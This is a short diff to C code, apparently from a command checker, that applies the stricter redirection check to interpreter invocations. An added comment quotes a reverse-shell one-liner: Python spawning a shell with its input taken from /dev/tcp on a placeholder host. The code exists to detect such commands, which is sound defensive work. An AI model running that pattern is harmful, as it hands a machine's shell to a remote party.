@@ -1271,7 +1271,9 @@ void runners_interp(struct cx *x, const struct wrappers_interp *ip, struct wv *a
 	size_t i = 1;
 	bool code = false;
 
-	commands_judge_redirs(x, redirs, ci, false);
+	/* an interpreter's fds on a socket (python -c 'pty.spawn("sh")'
+	 * </dev/tcp/h/p) hand what it runs to the connection, as a shell's */
+	commands_judge_redirs(x, redirs, ci, true);
 	while (i < argc) {
 		const struct wv *w = &argv[i];
 		if (in_list(ip->code_opt, w)) {
